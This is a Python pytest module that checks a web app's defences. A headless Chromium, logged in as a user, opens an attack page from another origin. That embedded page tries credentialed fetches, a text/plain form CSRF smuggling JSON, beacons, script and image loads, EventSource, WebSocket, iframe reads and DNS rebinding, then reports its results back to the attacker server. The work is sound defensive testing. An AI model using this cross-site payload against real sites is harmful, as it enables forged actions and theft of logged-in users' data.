"""A page of another site in a real browser, whose user is logged in here, tries to get in.

Without a Chromium on PATH these tests are skipped; `.ci/run` installs one.
"""

from __future__ import annotations

import json
import logging
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.request import Request, urlopen

import pytest
from genesis.web.token import login_link

from tests.support import until
from tests.web.serving import Server

NAMES = ("chromium", "chromium-browser", "google-chrome")
BROWSER = next((path for path in map(shutil.which, NAMES) if path), None)
pytestmark = pytest.mark.skipif(BROWSER is None, reason="no chromium on PATH")

# Tries everything a page can do, then reports what it got, as the user's browser saw it.
ATTACK = """
<!doctype html><meta charset=utf-8><body><pre id=out>running</pre>
<iframe name=inner></iframe>
<form id=form method=post action="TARGET/api/desk/notes" enctype="text/plain" target=inner>
<input name='{"text": "by a form", "act": "' value='"}'></form>
<script>
const target = "TARGET", got = {};
async function tell(name, run) {
  try { got[name] = await run(); } catch (error) { got[name] = "refused"; }
}
function load(tag, url) {
  return new Promise((done) => {
    const one = document.createElement(tag);
    one.onload = () => done("loaded"); one.onerror = () => done("refused");
    one.src = url; document.body.append(one);
  });
}
const note = JSON.stringify({text: "by a page"});
const read = async (how) => (await (await fetch(target + "/api/desk/notes", how)).text());
(async () => {
  await tell("read", () => read({credentials: "include"}));
  await tell("read no-cors", () => read({credentials: "include", mode: "no-cors"}));
  await tell("write as JSON", () => read({
    method: "POST", credentials: "include", body: note,
    headers: {"Content-Type": "application/json"}}));
  await tell("write as text", () => read({
    method: "POST", credentials: "include", body: note, mode: "no-cors"}));
  await tell("beacon", async () => String(navigator.sendBeacon(
    target + "/api/desk/notes", new Blob([note], {type: "text/plain"}))));
  await tell("image", () => load("img", target + "/api/desk/notes"));
  await tell("script", () => load("script", target + "/api/desk/notes"));
  await tell("stream", () => new Promise((done) => {
    const events = new EventSource(target + "/api/events/stream", {withCredentials: true});
    events.onopen = () => done("open"); events.onerror = () => done("refused");
  }));
  await tell("websocket", () => new Promise((done) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/api/events/stream");
    socket.onopen = () => done("open"); socket.onerror = () => done("refused");
  }));
  document.getElementById("form").submit();
  await new Promise((done) => setTimeout(done, 300));
  await tell("frame", async () => String(frames.inner.document.body.innerText));
  await fetch("/report", {method: "POST", body: JSON.stringify(got)});
  document.getElementById("out").textContent = "done";
})();
</script>
"""


class OtherSite(ThreadingHTTPServer):
    """The other site: it serves the page, and keeps what the page reports."""

    daemon_threads = True

    def __init__(self, target: str) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.page = ATTACK.replace("TARGET", target)
        self.report: dict[str, str] = {}

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class Handler(BaseHTTPRequestHandler):
    """Serves the page, and takes its report."""

    server: OtherSite

    def do_GET(self) -> None:
        self.send_response(200 if self.path == "/page" else 404)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        if self.path == "/page":
            self.wfile.write(self.server.page.encode())

    def do_POST(self) -> None:
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_words: object) -> None:
        """Say nothing."""


@contextmanager
def other_site(target: str) -> Iterator[OtherSite]:
    """Another site, on a port of its own."""
    with OtherSite(target) as site:
        thread = threading.Thread(target=site.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield site
        finally:
            site.shutdown()
            thread.join(20)


@dataclass
class Browser:
    """A browser without a window, told what to open through its own debugging port."""

    port: int

    def open(self, address: str) -> None:
        """Open an address in a new tab, as if the user had typed it."""
        place = f"http://127.0.0.1:{self.port}/json/new?{address}"
        urlopen(Request(place, method="PUT"), timeout=20).close()

    def addresses(self) -> list[str]:
        """Where its tabs have come to."""
        with urlopen(f"http://127.0.0.1:{self.port}/json/list", timeout=20) as answer:
            return [tab["url"] for tab in json.load(answer) if tab["type"] == "page"]


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """One for all tests of this module; it ends with them."""
    profile = tmp_path_factory.mktemp("profile")
    assert BROWSER is not None
    process = subprocess.Popen(
        [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         "--no-first-run", "--disable-extensions", "--disable-background-networking",
         "--host-resolver-rules=MAP rebound.example 127.0.0.1", "--remote-debugging-port=0",
         f"--user-data-dir={profile}", "about:blank"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        file = profile / "DevToolsActivePort"
        until(lambda: file.exists() and len(file.read_text().splitlines()) == 2, "a browser")
        yield Browser(int(file.read_text().split()[0]))
    finally:
        process.terminate()
        process.wait(20)


@pytest.fixture(scope="module")
def logged_in(browser: Browser, server: Server) -> Browser:
    """The browser of a user who has opened the link."""
    browser.open(login_link(server.token, "127.0.0.1", server.port))
    # It gets there only with its cookie.
    there = f"http://{server.host}/api/openapi.json"
    until(lambda: there in browser.addresses(), "the browser is logged in")
    return browser


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"], ids=["another port", "another site"])
def test_a_page_of_another_site_gets_nothing_and_changes_nothing(
    logged_in: Browser, server: Server, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "genesis.web.audit")
    before = server.events("desk.noted")
    with other_site(f"http://{server.host}") as site:
        logged_in.open(f"http://{name}:{site.port}/page")
        report = until(lambda: site.report, "the page has tried everything")
    assert report.pop("beacon") == "true"  # it was sent, no more is known
    assert len(report) == 9
    assert set(report.values()) == {"refused"}
    assert server.events("desk.noted") == before
    # They did come here, with whatever the browser gave them: what refused them is the guard.
    lines = [record.getMessage() for record in caplog.records if "audit" in record.name]
    assert lines.count("POST /api/desk/notes 403 by nobody") == 3
    assert not [line for line in lines if " 2" in line]


def test_a_name_that_was_made_to_lead_here_shows_nothing(
    logged_in: Browser, server: Server
) -> None:
    with other_site(f"http://rebound.example:{server.port}") as site:
        # Same origin for the browser, had the page come from the rebound name itself.
        logged_in.open(f"http://rebound.example:{site.port}/page")
        report = until(lambda: site.report, "the page has tried everything")
    assert set(report.values()) <= {"refused", "true"}
    answer = server.ask("/api/desk/notes", headers={"Host": f"rebound.example:{server.port}"})
    assert answer.status == 421


def test_the_users_own_page_still_works(logged_in: Browser, server: Server) -> None:
    address = f"http://{server.host}/api/desk/notes?limit=7"
    logged_in.open(address)
    until(lambda: address in logged_in.addresses(), "the page is open")
